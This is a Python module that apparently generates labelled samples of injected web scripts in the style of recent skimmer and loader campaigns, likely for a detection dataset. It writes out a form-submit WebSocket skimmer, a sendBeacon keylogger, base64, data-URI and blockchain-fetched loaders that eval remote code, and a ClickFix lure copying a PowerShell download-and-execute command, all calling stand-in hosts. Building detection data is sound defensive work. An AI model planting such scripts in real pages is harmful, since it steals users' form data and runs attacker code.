# ruff: noqa: E501
"""Foreign scripts as 2024-2026 skimmer, loader and drainer crews plant them."""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Mapping

Style = Callable[[random.Random], tuple[str, str]]  # -> (markup, where: "head" | "body")
ID_DIGITS = 7


def _num(rng: random.Random) -> str:
    return str(rng.randrange(10 ** (ID_DIGITS - 1), 10**ID_DIGITS))


def _gtm_container(rng: random.Random) -> tuple[str, str]:
    """A second tag-manager container: the real vendor host, the attacker's container id."""
    cid = "GTM-" + "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(7))
    js = (
        "(function(w,d,i){w.dataLayer2=w.dataLayer2||[];var s=d.createElement('script');s.async=1;"
        f"s.src='https://www.googletagmanager.com/gtm.js?id='+i+'&l=dataLayer2';d.head.appendChild(s)}})(window,document,'{cid}');"
    )
    return f"<script>{js}</script>", "head"


def _atob_function(rng: random.Random) -> tuple[str, str]:
    inner = f"var s=document.createElement('script');s.src='https://static.cdn-fontsync.net/lib/{_num(rng)}.js';document.body.appendChild(s);"
    blob = base64.b64encode(inner.encode()).decode()
    return f"<script>new Function(atob('{blob}'))();</script>", "body"


def _img_onerror(rng: random.Random) -> tuple[str, str]:
    js = f"this.remove();import('https://edge.pixelmetrics-cdn.com/m/{_num(rng)}.mjs')"
    return f'<img src="/favicon-32.png?v={_num(rng)}" width="1" height="1" alt="" onerror="{js}">', "body"


def _websocket_skimmer(rng: random.Random) -> tuple[str, str]:
    js = (
        "document.addEventListener('submit',function(e){try{var f=new FormData(e.target),o={};"
        "f.forEach(function(v,k){o[k]=v});var w=new WebSocket('wss://socket.checkout-verify.app/c');"
        "w.onopen=function(){w.send(JSON.stringify(o))}}catch(x){}},true);"
    )
    return f"<script>{js}</script>", "body"


def _clickfix_overlay(rng: random.Random) -> tuple[str, str]:
    """The fake 'verify you are human' prompt that puts a command on the clipboard."""
    cmd = f"powershell -w h -c iwr https://verify-cloudgate.com/{_num(rng)} | iex"
    js = (
        f"window.__vc=function(){{navigator.clipboard.writeText('{cmd}')}};"
        "var s=document.createElement('script');s.src='https://verify-cloudgate.com/ui/challenge.js';"
        "document.head.appendChild(s);"
    )
    return f"<script>{js}</script>", "body"


def _etherhiding(rng: random.Random) -> tuple[str, str]:
    """The next stage read from a smart contract through a public JSON-RPC node."""
    addr = "0x" + "".join(rng.choice("0123456789abcdef") for _ in range(40))
    js = (
        "fetch('https://bsc-testnet-rpc.publicnode.com',{method:'POST',headers:{'Content-Type':'application/json'},"
        f"body:JSON.stringify({{jsonrpc:'2.0',id:1,method:'eth_call',params:[{{to:'{addr}',data:'0x6d4ce63c'}},'latest']}})}})"
        ".then(function(r){return r.json()}).then(function(j){eval(atob(j.result.slice(130).replace(/00+$/,'')))});"
    )
    return f"<script>{js}</script>", "body"


def _lookalike_jquery(rng: random.Random) -> tuple[str, str]:
    return (
        f'<script src="https://code.jquery-libs.org/jquery-migrate-3.4.{rng.randint(2, 9)}.min.js"></script>',
        "head",
    )


def _data_uri(rng: random.Random) -> tuple[str, str]:
    inner = f"fetch('https://api.metricsbeacon.io/v2/cfg?h='+location.host).then(r=>r.text()).then(eval)//{_num(rng)}"
    blob = base64.b64encode(inner.encode()).decode()
    return f'<script src="data:text/javascript;base64,{blob}"></script>', "body"


def _beacon_keylogger(rng: random.Random) -> tuple[str, str]:
    js = (
        "(function(){var b='';document.addEventListener('input',function(e){if(e.target.type!=='search')"
        "b+=e.target.name+'='+e.target.value+'&'});addEventListener('pagehide',function(){"
        f"navigator.sendBeacon('https://collect.uxsignal-stats.com/k/{_num(rng)}',b)}})}})();"
    )
    return f"<script>{js}</script>", "body"


def _split_string_loader(rng: random.Random) -> tuple[str, str]:
    parts = ["ht", "tps:", "//cd", "n.wp", "-upd", "ate-", "svc.", "com/", "b.js"]
    js = (
        "var u="
        + "+".join(f"'{p}'" for p in parts)
        + ";var t=document.createElement('scr'+'ipt');t.src=u;document.head.appendChild(t);"
    )
    return f"<script>{js}</script>", "body"


def _fake_polyfill(rng: random.Random) -> tuple[str, str]:
    url = f"https://cdn.polyfill-fast.net/v3/polyfill.min.js?features=es2019%2Cfetch&r={_num(rng)}"
    return f'<script src="{url}" crossorigin="anonymous"></script>', "head"


STYLES: Mapping[str, Style] = {
    "second-tag-manager-container": _gtm_container,
    "atob-new-function-loader": _atob_function,
    "img-onerror-dynamic-import": _img_onerror,
    "form-submit-websocket-skimmer": _websocket_skimmer,
    "clickfix-clipboard-lure": _clickfix_overlay,
    "smart-contract-stage-fetch": _etherhiding,
    "lookalike-jquery-migrate": _lookalike_jquery,
    "data-uri-script-src": _data_uri,
    "input-sendbeacon-keylogger": _beacon_keylogger,
    "concatenated-url-loader": _split_string_loader,
    "lookalike-polyfill-cdn": _fake_polyfill,
}
SCRIPT_HOSTS = (
    "static.cdn-fontsync.net",
    "edge.pixelmetrics-cdn.com",
    "socket.checkout-verify.app",
    "verify-cloudgate.com",
    "code.jquery-libs.org",
    "api.metricsbeacon.io",
    "collect.uxsignal-stats.com",
    "cdn.wp-update-svc.com",
    "cdn.polyfill-fast.net",
)
